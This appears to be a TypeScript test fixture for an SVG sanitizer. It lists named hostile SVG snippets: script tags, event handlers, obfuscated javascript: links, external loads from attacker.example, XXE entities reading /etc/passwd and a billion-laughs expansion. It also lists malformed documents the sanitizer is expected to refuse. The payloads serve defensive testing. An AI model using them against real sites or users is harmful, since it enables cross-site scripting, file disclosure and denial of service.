/**
 * Drawings that are meant to be attacks; each must come out without what makes it one. `X` names the host
 * that must not be asked.
 */
export const attacks: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script in CDATA': '<script><![CDATA[alert(1)]]></script>',
  'a script by reference': '<script href="https://X/a.js"/><script xlink:href="https://X/a.js"/>',
  'a script under a prefix': '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
  'a script of HTML': '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  'a script inside of what is dropped': '<metadata><g><script>alert(1)</script></g></metadata>',
  handlers: '<rect onload="alert(1)" onclick="alert(1)" ONMOUSEOVER="alert(1)" width="5"/>',
  'a handler under a prefix': '<rect x:onload="alert(1)" xmlns:x="urn:x" width="5"/>',
  'a handler of events':
    '<handler type="text/javascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">alert(1)</handler>',
  'foreign objects':
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://X/"/></body></foreignObject>',
  'HTML by namespace': '<g><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></g>',
  'a link to a script': '<a href="javascript:alert(1)"><text>click</text></a>',
  'a link with blanks': '<a xlink:href="  java\tscript:alert(1)"><text>click</text></a>',
  'a link by references of characters': '<a href="&#106;avascript&#x3a;alert(1)"><text>click</text></a>',
  'a link elsewhere': '<a href="https://X/"><text>click</text></a>',
  'use of another document':
    '<use href="https://X/a.svg#b"/><use xlink:href="//X/a.svg#b"/><use href="a.svg#b"/>',
  'use of a data URL': '<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/>',
  'a picture elsewhere':
    '<image href="https://X/a.png"/><image xlink:href="//X/a.png"/><image href="a.png"/><image href="file:///etc/passwd"/>',
  'a picture that is a drawing':
    '<image href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;"/>',
  'a page as picture': '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  'a picture for a filter elsewhere': '<filter id="f"><feImage href="https://X/a.png"/></filter>',
  'paint elsewhere':
    '<rect fill="url(https://X/a.svg#p)" stroke="url(//X/#p)" filter="url( \'https://X/#f\' )" mask="url(a.svg#m)" width="5"/>',
  'paint by escapes': '<rect fill="u\\72l(https://X/)" style="fill:u\\72 l(https://X/)" width="5"/>',
  'paint behind comments': '<rect style="fill:/**/url(/**/https://X/a)" width="5"/>',
  'a cursor elsewhere':
    '<rect cursor="url(https://X/a.cur),auto" style="cursor:url(https://X/a.cur)" width="5"/>',
  'style that imports':
    '<style>@import "https://X/a.css"; @import url(https://X/a.css); rect{fill:red}</style>',
  'style that imports by escapes':
    '<style>@\\69mport "https://X/a.css"; @im\\port url(https://X/a.css);</style>',
  'style that imports in CDATA': '<style><![CDATA[@import "https://X/a.css";]]></style>',
  'style that imports behind braces': '<style>a{b:c}}@import "https://X/";{}</style>',
  'style that loads':
    '<style>rect{fill:url(https://X/a);background:image-set("https://X/a" 1x);content:src("https://X/a")}</style>',
  'style that loads a font': '<style>@font-face{font-family:a;src:url(https://X/a.woff)}</style>',
  'style that loads by namespace':
    '<style>@namespace url(https://X/); @document url(https://X/){a{b:c}}</style>',
  'style with strings that never end': '<style>a{b:"} c{fill:url(https://X/)} d{e:";}</style>',
  'style that runs': '<style>a{behavior:url(#x);-moz-binding:url(#x);width:expression(alert(1))}</style>',
  'style in attributes that runs':
    '<g style="width:expression(alert(1));behavior:url(https://X/);-moz-binding:url(https://X/#a)"/>',
  'animation of a link': '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
  'animation of an old link': '<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>',
  'animation of a handler': '<set attributeName="onmouseover" to="alert(1)"/>',
  'animation to a script':
    '<animate attributeName="fill" to="javascript:alert(1)"/><set attributeName="fill" to="url(https://X/#a)"/>',
  'animation without a name': '<a href="#a"><animate to="javascript:alert(1)"/></a>',
  media:
    '<audio src="https://X/a.mp3"/><video href="https://X/a.mp4"/><embed src="https://X/"/><object data="https://X/"/>',
  'another base': '<g xml:base="https://X/"><use href="#a"/></g>',
  'a processing instruction': '<?xml-stylesheet href="https://X/a.css"?><?php system(1) ?>',
  'a comment': '<!-- <script>alert(1)</script> -->',
  'a title that is markup':
    '<title>&lt;script src="https://X/"&gt;&lt;/script&gt;</title><desc>]]&gt;&lt;/desc&gt;</desc>',
};

/** Drawings that are refused as a whole. */
export const malformed: Readonly<Record<string, string>> = {
  'tags that do not close': '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
  'an attribute twice': '<svg xmlns="http://www.w3.org/2000/svg" width="1" width="2"/>',
  'an attribute without quotes': '<svg xmlns="http://www.w3.org/2000/svg" width=1/>',
  'a prefix that is not bound': '<svg xmlns="http://www.w3.org/2000/svg"><x:g/></svg>',
  'two roots': '<svg xmlns="http://www.w3.org/2000/svg"/><svg xmlns="http://www.w3.org/2000/svg"/>',
  'text around it': 'GIF89a<svg xmlns="http://www.w3.org/2000/svg"/>',
  'another root':
    '<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"/></html>',
  'svg of another namespace': '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
  'an entity with markup':
    '<!DOCTYPE svg [<!ENTITY a "<g/>">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
  'an entity of another document':
    '<!DOCTYPE svg [<!ENTITY % b SYSTEM "x.dtd">%b;]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
  'an entity that is used very often':
    `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(100)}">]>` +
    `<svg xmlns="http://www.w3.org/2000/svg"><text>${'&a;'.repeat(2000)}</text></svg>`,
  'an element of very many attributes': `<svg xmlns="http://www.w3.org/2000/svg"><g ${Array.from({ length: 1001 }, (_, index) => `a${String(index)}=""`).join(' ')}/></svg>`,
  'an outer entity':
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
  'a billion laughs':
    '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' +
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
  'no end': '<svg xmlns="http://www.w3.org/2000/svg">',
  'a byte that is no UTF-8': '<svg xmlns="http://www.w3.org/2000/svg"><text>\u{fffd}BAD</text></svg>',
  nothing: '',
  'depth without end': `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}</svg>`,
};

/** A whole document around some markup. */
export const documentOf = (markup: string): string =>
  '<?xml version="1.0" encoding="UTF-8"?>' +
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">' +
  `${markup.replaceAll('X', 'attacker.example')}<rect id="kept" width="40" height="20" fill="#123456"/></svg>`;
